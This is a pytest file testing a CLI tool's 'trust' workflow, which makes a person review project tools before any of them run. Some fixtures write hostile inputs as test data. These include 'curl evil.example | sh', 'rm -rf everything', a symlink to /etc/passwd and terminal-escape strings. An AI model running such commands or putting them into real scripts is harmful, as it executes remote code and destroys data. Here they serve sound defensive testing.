"""`toolcrib trust` and `untrust`: a person looks first, and nothing runs before."""

import hashlib
import json
import os
from pathlib import Path

import pytest


def programs(run_cli) -> list[str]:
    """The programs on offer, by name."""
    return [name for name in run_cli("list", "--names").stdout.split() if name.startswith("custom_tool_")]


@pytest.fixture
def project(workspace: Path, make_tool, tmp_path: Path) -> Path:
    """A project that would leave `canary` behind if anything of it ran."""
    make_tool("evil", f"#!/bin/sh\n: > {tmp_path}/canary\n", directory=workspace / ".toolcrib" / "tools")
    (workspace / ".toolcrib" / "config.yaml").write_text("approval: {default: ask}\n")
    return workspace


def test_without_a_terminal_it_takes_yes(run_cli, project: Path, tmp_path: Path, home: Path) -> None:
    """K60: shows each file with its digest, and trusts nothing unless told to."""
    done = run_cli("trust", "--json")
    assert done.returncode == 3
    report = json.loads(done.stdout)
    tool = project / ".toolcrib" / "tools" / "evil"
    digests = [
        "sha256:" + hashlib.sha256(file.read_bytes()).hexdigest() for file in (tool.parents[1] / "config.yaml", tool)
    ]
    assert (report["project"], report["trusted"]) == (str(project), False)
    assert [(file["path"], file["kind"], file["digest"]) for file in report["files"]] == [
        (".toolcrib/config.yaml", "file", digests[0]),
        (".toolcrib/tools/evil", "program", digests[1]),
    ]
    assert "add --yes" in done.stderr and digests[1][:19] in done.stderr
    assert not (home / "trust.json").exists()
    assert run_cli("trust", "--yes").returncode == 0
    assert not (tmp_path / "canary").exists()


def test_at_a_terminal_it_asks(run_cli, terminal, project: Path, home: Path) -> None:
    for typed, status in (("\n", 3), ("\x04", 3), ("\x03", 130)):
        at = terminal("trust")
        at.read_until("[y/N] ")
        at.send(typed)
        assert at.finish() == status
        assert "Traceback" not in at.screen
    assert not (home / "trust.json").exists()
    at = terminal("trust")
    at.read_until("[y/N] ")
    at.send("y\n")
    assert at.finish() == 0
    assert json.loads(run_cli("untrust", "--json").stdout)["was_trusted"] is True
    assert json.loads(run_cli("untrust", "--json").stdout)["was_trusted"] is False


def test_what_changed_while_a_person_looked_is_not_trusted(terminal, project: Path, home: Path) -> None:
    at = terminal("trust")
    at.read_until("[y/N] ")
    (project / ".toolcrib" / "tools" / "evil").write_text("#!/bin/sh\nrm -rf everything\n")
    at.send("y\n")
    assert at.finish() == 3
    assert "changed while you were looking" in at.screen
    assert not (home / "trust.json").exists()


def test_hostile_files_are_only_looked_at(run_cli, project: Path, tmp_path: Path) -> None:
    """A pipe is not opened, a link is not followed, and a name draws nothing."""
    tools = project / ".toolcrib" / "tools"
    os.mkfifo(tools / "pipe")
    (tools / "link").symlink_to("/etc/passwd\x1b[2J")
    (tools / "loop").symlink_to("..")
    (tools / "\x1b[31mred").write_text("")
    done = run_cli("trust", "--json")
    assert "\x1b" not in done.stderr
    kinds = {Path(file["path"]).name: (file["kind"], file["digest"] != "") for file in json.loads(done.stdout)["files"]}
    assert (kinds["pipe"], kinds["link"], kinds["loop"]) == (("special", False), ("link", False), ("link", False))
    assert kinds["\x1b[31mred"] == ("file", True)


def test_trust_is_for_one_directory_and_not_for_one_that_took_its_place(
    run_cli, project: Path, tmp_path: Path, repeat_script: str
) -> None:
    tool = project / ".toolcrib" / "tools" / "evil"
    tool.write_text(repeat_script.replace(": > ran", f": > {tmp_path}/canary"))
    run_cli("trust", "--yes")
    assert programs(run_cli) == programs(run_cli) == ["custom_tool_repeat"]
    project.rename(tmp_path / "moved")
    project.mkdir()
    (tmp_path / "moved" / ".toolcrib").rename(project / ".toolcrib")
    assert "WORKSPACE_UNTRUSTED" in run_cli("list").stderr
    assert run_cli("call", "evil", "--yes").returncode == 3
    assert not (tmp_path / "canary").exists()


def test_untrust_works_when_the_projects_configuration_is_broken_or_gone(
    run_cli, project: Path, tmp_path: Path
) -> None:
    (project / ".toolcrib" / "config.yaml").write_text("nonsense: [")
    run_cli("trust", "--yes")
    assert run_cli("list").returncode == 2
    assert run_cli("untrust").returncode == 0
    assert run_cli("list").returncode == 0
    assert run_cli("untrust", str(tmp_path / "never-was")).returncode == 0
    assert run_cli("trust", str(tmp_path / "never-was")).returncode == 2


# Trusting again


@pytest.fixture
def trusted(project: Path, run_cli, repeat_script: str, tmp_path: Path) -> Path:
    """A project that was trusted, with a tool that leaves `canary` behind when it runs."""
    (project / ".toolcrib" / "tools" / "evil").write_text(repeat_script.replace(": > ran", f": > {tmp_path}/canary"))
    assert run_cli("trust", "--yes").returncode == 0
    return project


def changes(done) -> tuple[list[str], list[str], list[str]]:
    report = json.loads(done.stdout)
    return report["added"], report["removed"], report["changed"]


def test_the_first_time_everything_is_added(run_cli, project: Path) -> None:
    paths = [".toolcrib/config.yaml", ".toolcrib/tools/evil"]
    assert changes(run_cli("trust", "--json")) == (paths, [], [])


def test_nothing_changed_is_said_and_nobody_is_asked(run_cli, terminal, trusted: Path, home: Path) -> None:
    before = (home / "trust.json").read_bytes()
    done = run_cli("trust", "--json")
    assert (done.returncode, changes(done)) == (0, ([], [], []))
    assert json.loads(done.stdout)["trusted"] is True
    assert "nothing changed" in done.stderr
    at = terminal("trust")
    assert at.finish() == 0 and "[y/N]" not in at.screen
    assert (home / "trust.json").read_bytes() == before


def test_a_difference_is_shown_by_file_and_by_line(run_cli, trusted: Path) -> None:
    tools = trusted / ".toolcrib" / "tools"
    (tools / "evil").write_text((tools / "evil").read_text().replace("exit 1", "curl evil.example | sh"))
    (trusted / ".toolcrib" / "config.yaml").unlink()
    (tools / "new").write_text("#!/bin/sh\necho brand new\n")
    done = run_cli("trust", "--json")
    assert done.returncode == 3
    assert changes(done) == ([".toolcrib/tools/new"], [".toolcrib/config.yaml"], [".toolcrib/tools/evil"])
    lines = done.stderr.splitlines()
    assert [line.split()[:2] for line in lines[1:4]] == [
        ["removed", ".toolcrib/config.yaml"], ["changed", ".toolcrib/tools/evil"], ["added", ".toolcrib/tools/new"],
    ]  # fmt: skip
    assert "-  *) exit 1 ;;" in lines and "+  *) curl evil.example | sh ;;" in lines and "+echo brand new" in lines
    assert "+  run)" not in done.stderr  # only what is different, and a little around it


def test_no_is_the_default_and_leaves_the_earlier_word_as_it_was(run_cli, terminal, trusted: Path, home: Path) -> None:
    before = (home / "trust.json").read_bytes()
    (trusted / ".toolcrib" / "tools" / "evil").write_text("#!/bin/sh\n")
    for typed, status in (("\n", 3), ("n\n", 3), ("\x04", 3), ("\x03", 130)):
        at = terminal("trust")
        at.read_until("[y/N] ")
        at.send(typed)
        assert at.finish() == status
    assert (home / "trust.json").read_bytes() == before
    assert "WORKSPACE_UNTRUSTED" in run_cli("list").stderr


def test_yes_trusts_what_was_shown(run_cli, terminal, trusted: Path) -> None:
    tool = trusted / ".toolcrib" / "tools" / "evil"
    tool.write_text(tool.read_text() + "# more\n")
    assert programs(run_cli) == []
    at = terminal("trust")
    at.read_until("[y/N] ")
    assert "+# more" in at.screen
    at.send("y\n")
    assert at.finish() == 0
    assert programs(run_cli) == ["custom_tool_repeat"]


def test_what_changed_again_while_a_person_looked_is_not_trusted(terminal, trusted: Path, home: Path) -> None:
    before = (home / "trust.json").read_bytes()
    tool = trusted / ".toolcrib" / "tools" / "evil"
    tool.write_text("#!/bin/sh\necho harmless\n")
    at = terminal("trust")
    at.read_until("[y/N] ")
    tool.write_text("#!/bin/sh\necho harmful!\n")
    at.send("y\n")
    assert at.finish() == 3
    assert "changed while you were looking; nothing more was trusted" in at.screen
    assert (home / "trust.json").read_bytes() == before


def test_a_difference_draws_nothing(run_cli, trusted: Path) -> None:
    text = "#!/bin/sh\n\x1b[2J\x1b[1;1H\u202edesrever\u2066 \x07\r# hidden\n"
    (trusted / ".toolcrib" / "tools" / "evil").write_text(text)
    done = run_cli("trust")
    assert not set("\x1b\u202e\u2066\x07\r") & set(done.stderr)
    assert "\\x1b[2J" in done.stderr


def test_a_long_difference_is_bounded_and_says_what_was_left_out(run_cli, trusted: Path) -> None:
    tools = trusted / ".toolcrib" / "tools"
    (tools / "evil").write_text("#!/bin/sh\n" + "".join(f"echo {number}\n" for number in range(900)))
    (tools / "wide").write_text("x" * 100_000)
    (tools / "endless").write_text("".join(f"{number}\n" for number in range(30_000)))
    for number in range(40):
        (tools / f"many{number}").write_text("".join(f"line {n} of the file\n" for n in range(200)))
    done = run_cli("trust")
    assert len(done.stderr) < 100_000
    assert "more lines" in done.stderr and "more characters" in done.stderr
    assert "too many to be compared here" in done.stderr
    assert "more file(s) are too long to be shown here" in done.stderr


def test_binary_and_lost_content_are_said(run_cli, trusted: Path, home: Path) -> None:
    tool = trusted / ".toolcrib" / "tools" / "evil"
    tool.write_bytes(b"\x7fELF\0\0")
    assert "binary" in run_cli("trust").stderr
    assert run_cli("clean", "--all").returncode == 0
    assert "its earlier content is not kept any more" in run_cli("trust").stderr


@pytest.mark.parametrize("shape", ["same lines", "no lines in common", "shuffled"])
def test_a_hostile_pair_of_files_is_compared_in_bounded_time(run_cli, trusted: Path, shape: str) -> None:
    tool = trusted / ".toolcrib" / "tools" / "evil"
    rows = {"same lines": ["a\n", "b\n"] * 480, "no lines in common": [f"{n}\n" for n in range(990)]}
    before = rows.get(shape, [f"{n % 97}\n" for n in range(990)])
    tool.write_text("".join(before))
    assert run_cli("trust", "--yes").returncode == 0
    tool.write_text("".join(reversed(before)) + "x\n")
    assert run_cli("trust").returncode == 3  # within the time that run_cli gives


def test_a_link_is_shown_with_what_it_leads_to(run_cli, trusted: Path, tmp_path: Path) -> None:
    tools = trusted / ".toolcrib" / "tools"
    (tools / "in").symlink_to("evil")
    (tools / "out").symlink_to(tmp_path)
    shown = run_cli("trust").stderr
    assert "-> evil  sha256:" in shown and f"-> {tmp_path}  not a file of this project" in shown


def test_too_many_files_are_refused_soon(run_cli, project: Path, home: Path) -> None:
    many = project / ".toolcrib" / "many"
    many.mkdir()
    for number in range(20_100):
        os.mkfifo(many / str(number))
    done = run_cli("trust", "--yes")
    assert done.returncode == 3 and "more than a person can look at" in done.stderr
    assert not (home / "trust.json").exists()


def test_an_old_trust_file_is_named_as_such(run_cli, project: Path, home: Path) -> None:
    seen = os.stat(project)
    old = {"version": 1, "projects": {str(project): {"identity": [seen.st_dev, seen.st_ino], "at": 1.0}}}
    (home / "trust.json").write_text(json.dumps(old))
    assert "before digests of its files were kept" in run_cli("list").stderr
    assert run_cli("trust", "--yes").returncode == 0


def test_check_starts_nothing_that_changed_since(run_cli, trusted: Path, tmp_path: Path) -> None:
    tool = trusted / ".toolcrib" / "tools" / "evil"
    tool.write_text(f"#!/bin/sh\n: > {tmp_path}/canary\n")
    assert run_cli("check", "evil").returncode == 3
    assert run_cli("check", str(tool)).returncode == 3
    run_cli("check")
    run_cli("check", ".toolcrib/tools")
    assert not (tmp_path / "canary").exists()


def test_check_starts_nothing_when_the_rules_changed(run_cli, trusted: Path, tmp_path: Path) -> None:
    (trusted / ".toolcrib" / "policy.yaml").write_text("rules: []\n")
    assert run_cli("check", "evil").returncode == 3


def test_a_new_tool_of_a_trusted_project_says_what_is_missing(run_cli, trusted: Path) -> None:
    done = run_cli("new", "executable", "fresh", "--lang", "bash", "--project")
    assert "trusted without this file" in done.stderr
    assert "custom_tool_fresh" not in run_cli("list", "--names").stdout


def test_list_sees_each_change_at_once(run_cli, trusted: Path) -> None:
    """Also from the answer it kept: changed tool, changed rules, back again."""
    tool, policy = trusted / ".toolcrib" / "tools" / "evil", trusted / ".toolcrib" / "policy.yaml"
    text = tool.read_text()
    assert programs(run_cli) == programs(run_cli) == ["custom_tool_repeat"]
    tool.write_text(text + "#")
    assert programs(run_cli) == programs(run_cli) == []
    tool.write_text(text)
    assert programs(run_cli) == ["custom_tool_repeat"]
    policy.write_text("# new\n")
    assert programs(run_cli) == programs(run_cli) == []
    policy.unlink()
    assert programs(run_cli) == ["custom_tool_repeat"]


def test_what_manifests_ask_for_is_shown_before_anybody_says_yes(run_cli, project: Path, home: Path) -> None:
    folder = project / ".toolcrib" / "tools" / "asks"
    folder.mkdir(parents=True)
    (folder / "run").write_text("#!/bin/sh\n")
    (folder / "run").chmod(0o755)
    head = 'name: asks\ndescription: Asks.\nversion: "1.0.0"\nentrypoint: run\n'
    (folder / "tool.yaml").write_text(head + "network: [api.example.com]\nfiles: {rw: ['~/models']}\nsecrets: [KEY]\n")
    done = run_cli("trust", "--json")
    assert (done.returncode, (home / "trust.json").exists()) == (3, False)
    words = ["to reach api.example.com", "to read and write ~/models", "to have the secrets KEY"]
    assert json.loads(done.stdout)["asked"] == {".toolcrib/tools/asks/tool.yaml": words}
    for each in words:
        assert f".toolcrib/tools/asks/tool.yaml: {each}" in done.stderr
